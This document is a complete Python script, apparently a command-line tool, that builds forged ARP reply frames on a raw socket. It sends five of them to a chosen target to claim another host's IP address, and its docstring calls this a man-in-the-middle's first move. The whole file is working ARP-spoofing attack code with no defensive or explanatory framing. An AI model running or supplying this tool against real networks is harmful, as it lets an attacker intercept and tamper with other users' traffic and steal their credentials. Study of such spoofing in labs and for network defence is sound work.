#!/usr/bin/env python3
"""Claims an address with ARP replies: spoof.py IFNAME CLAIMED_IP TARGET_IP TARGET_MAC.

Sends five ARP replies, half a second apart, telling TARGET that CLAIMED_IP is at this
interface's MAC (the man in the middle's first move)."""
import socket, struct, sys, time

ifname, claimed, target_ip, target_mac = sys.argv[1:5]
own = open(f"/sys/class/net/{ifname}/address").read().strip()
mac = lambda s: bytes.fromhex(s.replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2,
                  mac(own), socket.inet_aton(claimed), mac(target_mac), socket.inet_aton(target_ip))
frame = mac(target_mac) + mac(own) + struct.pack("!H", 0x0806) + arp
for _ in range(5):
    s.send(frame)
    time.sleep(0.5)
print(f"told {target_ip} that {claimed} is at {own}")
